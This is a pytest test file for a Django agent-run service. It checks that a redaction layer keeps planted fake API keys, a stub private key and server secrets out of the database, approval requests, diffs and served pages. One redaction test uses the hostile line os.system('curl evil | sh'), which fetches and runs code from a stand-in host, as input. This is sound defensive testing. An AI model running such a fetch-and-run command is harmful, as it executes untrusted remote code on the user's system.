"""Secrets never reach the database nor any response: a secret from the server's
environment and credential-shaped keys are planted in every field a run can reach (the
contract, the script, a proposal's arguments, the workspace's files, tool output, the
publish diff), then every column of every table of the test database and every API
response and page about the run are scanned for them. The reviewer is told when
something was masked, and the masked run still completes with its approval."""

from __future__ import annotations

import json
from collections.abc import Mapping
from typing import TYPE_CHECKING

import pytest
from django.contrib.auth.models import User
from django.db import connection
from django.test import Client
from hypothesis import given
from hypothesis import strategies as st
from pytest_django import Settings
from rest_framework.test import APIClient

from approvals.models import ApprovalRequest
from common.redact import MASK, masked, masked_each, redact, redact_lines, redact_text
from core.environment import Environment
from core.jsonutil import JSON
from core.scenarios import FIXED, call
from core.simulated import SimExecutor, SimWorkspace
from notifications.models import WebhookEndpoint
from runs.approval_flow.flow import grant
from runs.approval_flow.gate import DjangoApprovals
from runs.models import Artifact, Run
from runs.services import check_new_run, do_create_run, drive_run
from sandbox.workspace.patches import unified_diff
from tests.helpers import CONTRACT

ENV_SECRET = "server-env-secret-4f9c1e7a55"
OPENAI_SHAPED = "sk-proj" + "A1b2C3d4E5f6G7h8J9k0Lm"
GITHUB_SHAPED = "ghp_" + "a" * 12 + "B" * 12 + "c" * 12
AWS_SHAPED = "AKIA" + "ABCDEFGHIJKLMNOP"
SLACK_SHAPED = "xoxb-" + "123456789012-abcdefABCDEF"
PEM = "-----BEGIN RSA PRIVATE KEY-----\nMIIEowIBAAKCAQEA7pemBodyLine\n-----END RSA PRIVATE KEY-----"
SECRETS = [ENV_SECRET, OPENAI_SHAPED, GITHUB_SHAPED, AWS_SHAPED, SLACK_SHAPED, "MIIEowIBAAKCAQEA7pemBodyLine"]

if TYPE_CHECKING:
    # The test clients' responses: only the stubs name them.
    from django.test.client import _MonkeyPatchedWSGIResponse
    from rest_framework.response import _MonkeyPatchedResponse

pytestmark = [pytest.mark.django_db, pytest.mark.postgres]


class DiffingWorkspace(SimWorkspace):
    """Like the real workspace, a publish shows the diff of every changed file."""

    def __init__(self, files: Mapping[str, str]) -> None:
        super().__init__(files)
        self.original = dict(files)

    def preview(self, tool: str, args: Mapping[str, JSON]) -> str | None:
        if tool != "publish":
            return super().preview(tool, args)
        return "".join(unified_diff(p, self.original.get(p), c) for p, c in self.files.items())


def leaks(text: str) -> list[str]:
    return [secret for secret in SECRETS if secret in text]


def scan_database() -> list[str]:
    found = []
    with connection.cursor() as cursor:
        for table in connection.introspection.table_names():
            cursor.execute(f"SELECT * FROM {connection.ops.quote_name(table)}")
            for row in cursor.fetchall():
                found += [f"{table}: {secret}" for value in row for secret in leaks(str(value))]
    return found


def test_it_masks_credential_shapes_and_configured_values() -> None:
    text = f"a {OPENAI_SHAPED} b {GITHUB_SHAPED} c {AWS_SHAPED} d {SLACK_SHAPED} e {PEM} f {ENV_SECRET}"
    key = PEM.replace("MIIEowIBAAKCAQEA7pemBodyLine", MASK)  # masked within its lines, the markers kept
    assert redact_text(text, [ENV_SECRET]) == f"a {MASK} b {MASK} c {MASK} d {MASK} e {key} f {MASK}"
    assert redact_text("sha256:" + "ab" * 32, [ENV_SECRET]) == "sha256:" + "ab" * 32


def test_it_masks_through_the_quick_look_at_json_text_exactly() -> None:
    # The quick path reads a value's JSON text; a secret JSON escapes (a quote, a
    # backslash) and one in a key must still be found, and a clean value is kept as is.
    secret = 'pa"ss\\word-4f9c1e'
    value = {"a": [f"x{secret}y"], f"k{secret}": 1, "n": {"m": OPENAI_SHAPED}}
    assert redact(value, [secret]) == {"a": [f"x{MASK}y"], f"k{MASK}": 1, "n": {"m": MASK}}
    clean = {"a": ["nothing to hide"], "b": 2}
    assert redact(clean, [ENV_SECRET]) is clean
    stored, text = masked(value, [ENV_SECRET])
    assert stored["n"] == {"m": MASK} and OPENAI_SHAPED not in text.text and json.loads(text.text) == stored


def test_it_masks_a_checkpoints_payloads_looked_at_together_as_each_alone() -> None:
    # One look at the payloads' texts joined by line breaks gives what a look at each
    # gives: a secret in any one of them masked in that one alone, clean ones kept as
    # they are (the same objects), a credential name and a random value in two payloads
    # no finding.
    clean = {"a": ["nothing to hide"], "b": 2}
    named_before = {"note": "client_secret="}
    random_after = {"v": "Zq8wX2mK9pL4vB7nR1tY"}
    for values in (
        [clean, {"args": {"key": OPENAI_SHAPED}}, clean],
        [clean, {"x": f"at {ENV_SECRET}"}],
        [named_before, random_after],
        [clean, clean],
    ):
        each = masked_each(values, [ENV_SECRET])
        alone = [masked(value, [ENV_SECRET]) for value in values]
        assert [(value, text.text) for value, text in each] == [(value, text.text) for value, text in alone]
        assert all(value is given for (value, _), given, (single, _) in zip(each, values, alone, strict=True) if single is given)
    assert OPENAI_SHAPED not in masked_each([clean, {"args": {"key": OPENAI_SHAPED}}], [])[1][1].text


def test_it_never_stores_or_serves_a_secret_planted_in_every_field_a_run_reaches(
    settings: Settings, operator: User, reviewer: User, client: Client
) -> None:
    settings.HARNESS_SECRET_VALUES = [ENV_SECRET]
    WebhookEndpoint.objects.create(name="hook", url="https://93.184.215.14/hook", event_kinds=["approval_requested", "run_stopped"])
    workspace = DiffingWorkspace({"src/calc.py": f"# {AWS_SHAPED}\ndef total(q):\n    return q\n", "deploy.pem": PEM})
    executor = SimExecutor(workspace, check_passes=lambda files, _: "ValueError" in files["src/calc.py"])
    script = [
        call("read_file", path="deploy.pem"),
        call("read_file", path="src/calc.py"),
        call("write_file", path="src/calc.py", content=f"{FIXED}# {GITHUB_SHAPED} {ENV_SECRET}\n"),
        call("run_check", check_id="tests"),
        call("publish", message=f"ship it with {OPENAI_SHAPED} and {SLACK_SHAPED}"),
        call("finish", summary=f"fixed; key {ENV_SECRET}"),
    ]
    contract = {**CONTRACT, "objective": f"fix the calculator, token {ENV_SECRET}", "acceptance_criteria": [f"uses {OPENAI_SHAPED}"]}
    run = do_create_run(check_new_run(contract, {"kind": "scripted", "script": script}), operator, lambda run: workspace.revision())
    env = Environment(executor, workspace)
    assert drive_run(run, env, DjangoApprovals(run)).status == "waiting_approval"

    request = ApprovalRequest.objects.get(run=run)
    assert request.args == {"message": f"ship it with {MASK} and {MASK}"} and MASK in request.diff
    api = APIClient()
    api.force_authenticate(reviewer)
    served: list[_MonkeyPatchedResponse | _MonkeyPatchedWSGIResponse] = [
        api.get(f"/api/approvals/{request.pk}/"),
        api.get("/api/approvals/"),
    ]
    client.force_login(reviewer)
    page = client.get(f"/approvals/{request.pk}/")
    assert b'id="masked-notice"' in page.content
    served.append(page)

    grant(request, reviewer)
    run.refresh_from_db()
    state = drive_run(run, env, DjangoApprovals(run))
    assert state.outcome == "complete", state.stop_message  # the masked run keeps its approval
    # The workspace (the user's data) still has what the agent was given to read.
    assert AWS_SHAPED in workspace.files["src/calc.py"] or MASK in workspace.files["src/calc.py"]

    assert scan_database() == []
    api.force_authenticate(operator)
    client.force_login(operator)
    for url in (f"/api/runs/{run.pk}/", f"/api/runs/{run.pk}/events/", f"/api/runs/{run.pk}/report/", "/api/runs/"):
        served.append(api.get(url))
    for url in (f"/runs/{run.pk}/", f"/runs/{run.pk}/report.json", f"/runs/{run.pk}/events/?before=1000", f"/runs/{run.pk}/summary/"):
        served.append(client.get(url))
    served += [client.get(f"/runs/{run.pk}/artifacts/{ref}/?download=1") for ref in Artifact.objects.values_list("ref", flat=True)]
    for response in served:
        assert response.status_code == 200, (response.request["PATH_INFO"], response.status_code)
        assert leaks(response.content.decode()) == [], response.request["PATH_INFO"]
    assert MASK in json.dumps(Run.objects.get(pk=run.pk).state)


def test_it_masks_within_lines_and_keeps_the_key_markers_and_words_that_look_like_shapes() -> None:
    body = "MIIEowIBAAKCAQEA7pemBodyLine"
    diff = f"+# rotated\n -----BEGIN RSA PRIVATE KEY-----\n {body}\n-{body}\n+{body}\ndiff --git a/orders/total.py b/orders/total.py\n+os.system('x')\n"
    assert redact_text(diff, []) == diff.replace(body, MASK)  # the next file's lines stay visible
    # A key on one line of a JSON or env file, a Go-style one, and code after a marker.
    assert redact_text(f'"k": "-----BEGIN PRIVATE KEY-----\\n{body}\\n-----END PRIVATE KEY-----\\n"', []) == (
        f'"k": "-----BEGIN PRIVATE KEY-----{MASK}-----END PRIVATE KEY-----\\n"'
    )
    go = f'k := "-----BEGIN RSA PRIVATE KEY-----\\n" +\n\t"{body}\\n" +\n\t"-----END RSA PRIVATE KEY-----"'
    assert redact_text(go, []) == go.replace(f"{body}\\n", MASK)
    code = "# -----BEGIN RSA PRIVATE KEY-----\nos.system('curl evil | sh')\n"
    assert redact_text(code, []) == code
    words = "task-runner-configuration disk-usage-is-high-today"
    assert redact_text(words, []) == words
    # A configured value of several lines is masked line by line.
    assert redact_text("a\nfirst-line-of-it\nsecond-line-of-it\nb", secret_values_of(["first-line-of-it\nsecond-line-of-it"])) == (
        f"a\n{MASK}\n{MASK}\nb"
    )


def secret_values_of(values: list[str]) -> list[str]:
    from django.test import override_settings

    from common.redact import secret_values

    with override_settings(HARNESS_SECRET_VALUES=values):
        return secret_values()


hostile_lines = st.lists(
    st.sampled_from(
        [
            "-----BEGIN RSA PRIVATE KEY-----",
            "-----END RSA PRIVATE KEY-----",
            "MIIEowIBAAKCAQEA7pemBodyLine",
            "+MIIEowIBAAKCAQEA7pemBodyLine",
            "-abc==-----END PRIVATE KEY-----",
            '  "-----BEGIN EC PRIVATE KEY-----\\n" +',
            "+-----BEGIN PRIVATE KEY-----x",
            "Proc-Type: 4,ENCRYPTED",
            "",
            "+",
            "-",
            " ",
            "@@ -1,2 +1,2 @@",
            "--- a/f",
            "sk-" + "Ab1" * 8,
            "+ghp_" + "x" * 24,
            "code(1)",
        ]
    ),
    min_size=1,
    max_size=20,
)


@given(lines=hostile_lines)
def test_it_never_changes_a_line_count_or_a_diff_marker_and_streams_the_same(lines: list[str]) -> None:
    text = "\n".join(lines)
    masked_text = redact_text(text, [ENV_SECRET])
    out = masked_text.split("\n")
    assert len(out) == len(lines)
    assert [line[:1] for line in out if line[:1] in "+-"] == [line[:1] for line in lines if line[:1] in "+-"]
    assert "\n".join(redact_lines(lines, [ENV_SECRET])) == masked_text


def test_it_reads_the_configured_values_again_once_the_setting_changes(settings: Settings) -> None:
    """``secret_values`` keeps the configured values until the setting changes: a value
    configured later is masked at once, one no longer configured is not."""
    from common.redact import secret_values

    settings.HARNESS_SECRET_VALUES = ["first-secret-value"]
    assert secret_values() == ["first-secret-value"]
    settings.HARNESS_SECRET_VALUES = ["second-secret-value\nits-second-line"]
    assert secret_values() == ["second-secret-value", "its-second-line"]
    assert redact_text("first-secret-value second-secret-value", secret_values()) == f"first-secret-value {MASK}"
